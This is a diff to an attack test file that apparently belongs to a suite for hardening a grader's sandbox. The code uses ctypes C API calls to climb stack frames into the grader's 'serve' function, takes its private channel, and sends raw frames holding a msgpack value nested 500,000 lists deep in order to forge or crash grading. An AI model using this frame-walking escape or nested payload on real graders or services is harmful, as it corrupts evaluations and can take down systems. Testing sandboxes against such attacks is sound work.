@@ -1,4 +1,5 @@
 # attack: answers with lists and tuples nested beyond every stack | class: forging | canary: bytes | dud: plain pytest has no wire
+import ctypes
 import sys
 
 import msgspec
@@ -9,21 +10,23 @@ from grader.sandbox.wire.packing import Packing
 
 def answer(make):
     """Whatever is asked after this, answer with what `make` makes of the question."""
+    # Through the C API: by their attributes frames lead to nothing.
+    frames = ctypes.pythonapi
+    frames.PyFrame_GetBack.restype = frames.PyFrame_GetLocals.restype = ctypes.py_object
     call = sys._getframe()
     while call.f_code.co_name != "serve":
-        call = call.f_back
-    channel = call.f_locals["channel"]
+        call = frames.PyFrame_GetBack(ctypes.py_object(call))
+    channel = frames.PyFrame_GetLocals(ctypes.py_object(call))["channel"]
     channel.send(Loaded(), Packing(), None)
     while True:
         request, unpacking = channel.receive_request()
         make(channel, request)
 
-import struct
 
 
 def raw(channel, structure, blob=b""):
     structure = msgspec.msgpack.encode(structure)
-    channel._socket.sendall(struct.pack("<IQQ", len(structure), len(blob), channel._number) + structure + blob)
+    channel._socket.sendall(channel.sealed(structure, blob))
 
 
 def extension(code, value):
@@ -32,7 +35,7 @@ def extension(code, value):
 
 def make(channel, request):
     lists = b"\x82\xa4type\xa8returned\xa5value" + b"\x91" * 500_000 + b"\xc0"
-    channel._socket.sendall(struct.pack("<IQQ", len(lists), 0, channel._number) + lists)
+    channel._socket.sendall(channel.sealed(lists, b""))
 
 
 answer(make)
